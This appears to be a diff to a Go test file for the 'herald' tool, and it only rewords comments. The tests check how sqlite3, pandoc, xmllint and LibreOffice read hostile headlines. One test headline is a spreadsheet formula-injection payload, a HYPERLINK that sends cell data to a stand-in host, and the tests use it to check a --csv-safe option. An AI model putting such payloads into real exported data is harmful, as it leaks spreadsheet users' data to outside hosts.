@@ -18,7 +18,7 @@ import (
 	"go.yaml.in/yaml/v3"
 )
 
-// story is what every tool must read as herald's own JSON has it.
+// story holds what every tool must read as herald's JSON states it.
 type story struct {
 	Headline string  `json:"headline" yaml:"headline"`
 	Byline   *string `json:"byline" yaml:"byline"`
@@ -26,7 +26,7 @@ type story struct {
 	Body     string  `json:"body" yaml:"-"`
 }
 
-// headlines are such as break a format or run in a spreadsheet. Each is also a paragraph of its story.
+// headlines are such as break a format or run in a spreadsheet. Each is also a paragraph of its article.
 var headlines = []string{
 	`=HYPERLINK("http://x.example/?"&A1,"Click, please")`,
 	`+82 "2" 727; 'one', two	and three`,
@@ -36,7 +36,7 @@ var headlines = []string{
 	`null`,
 }
 
-// The tools that people have read what herald prints: the same headline, byline, day and body. Each runs where it is installed.
+// The programs that people use read the same headline, byline, day and body from every format. Each runs where it is installed.
 func TestTools(t *testing.T) {
 	skipInShort(t, "it runs other programs, of which some take seconds to start")
 	pages := hostilePages(t)
@@ -63,7 +63,7 @@ func TestTools(t *testing.T) {
 	t.Run("soffice", func(t *testing.T) { spreadsheet(t, pages, want) })
 }
 
-// hostilePages is a folder of a page for each of the headlines, in their order.
+// hostilePages returns a folder with a page for each of the headlines, in their order.
 func hostilePages(t *testing.T) string {
 	t.Helper()
 	page, err := os.ReadFile("../../testdata/script/pages/formula.html")
@@ -85,7 +85,7 @@ func hostilePages(t *testing.T) string {
 	return dir
 }
 
-// run runs a program and gives what it prints. The test is skipped where the program is not installed.
+// run returns what a program prints. It skips the test where the program is not installed.
 func run(t *testing.T, stdin, name string, args ...string) string {
 	t.Helper()
 	if _, err := exec.LookPath(name); err != nil {
@@ -102,7 +102,7 @@ func run(t *testing.T, stdin, name string, args ...string) string {
 	return string(out)
 }
 
-// stories are read from JSON objects, one after another or in a list.
+// stories parses JSON objects, one after another or in a list.
 func stories(t *testing.T, text string) []story {
 	t.Helper()
 	d := json.NewDecoder(strings.NewReader(text))
@@ -172,7 +172,7 @@ func readBySQLiteCSV(t *testing.T, pages string) []story {
 	return stories(t, run(t, "", "sqlite3", "-json", ":memory:", ".import --csv '"+file+"' articles", "select * from articles"))
 }
 
-// readByPandoc reads the front matter as YAML and the rest as pandoc's own tree of it.
+// readByPandoc reads the front matter as YAML and the rest as pandoc's syntax tree.
 func readByPandoc(t *testing.T, pages string) []story {
 	t.Helper()
 	var all []story
@@ -183,7 +183,7 @@ func readByPandoc(t *testing.T, pages string) []story {
 		if err := yaml.Unmarshal([]byte(front), &s); err != nil || !ok {
 			t.Fatalf("%v\n%s", err, text)
 		}
-		below.Byline, below.Day = s.Byline, s.Day // these are said above, or in other words
+		below.Byline, below.Day = s.Byline, s.Day // these are only in the front matter, or are worded otherwise below
 		var tree struct{ Blocks []node }
 		if err := json.Unmarshal([]byte(run(t, text, "pandoc", "-f", "commonmark+pipe_tables+yaml_metadata_block", "-t", "json")), &tree); err != nil {
 			t.Fatal(err)
@@ -220,7 +220,7 @@ func entries(t *testing.T, dir string) []string {
 	return names
 }
 
-// node is a block or an inline of pandoc: only text, blanks and what holds them may come of a story that has no markup.
+// node is a block or an inline of pandoc. An article without markup may yield only text and spaces.
 type node struct {
 	T string          `json:"t"`
 	C json.RawMessage `json:"c"`
@@ -258,7 +258,7 @@ func (n node) text() string {
 	return b.String()
 }
 
-// readByXmllint asks for the words of each TEI document by XPath.
+// readByXmllint reads the text of each TEI document by XPath.
 func readByXmllint(t *testing.T, pages string) []story {
 	t.Helper()
 	dir := filepath.Join(t.TempDir(), "tei") + "/"
@@ -293,7 +293,7 @@ func readByXmllint(t *testing.T, pages string) []story {
 	return all
 }
 
-// spreadsheet: LibreOffice runs a headline that is a formula, unless the table was made with --csv-safe.
+// spreadsheet checks that LibreOffice runs a headline that is a formula, unless the table was made with --csv-safe.
 func spreadsheet(t *testing.T, pages string, want []story) {
 	t.Helper()
 	dir := t.TempDir()
@@ -333,7 +333,7 @@ func spreadsheet(t *testing.T, pages string, want []story) {
 	}
 }
 
-// part is a file of a workbook.
+// part returns a file of a workbook.
 func part(t *testing.T, book, name string) string {
 	t.Helper()
 	z, err := zip.OpenReader(book)
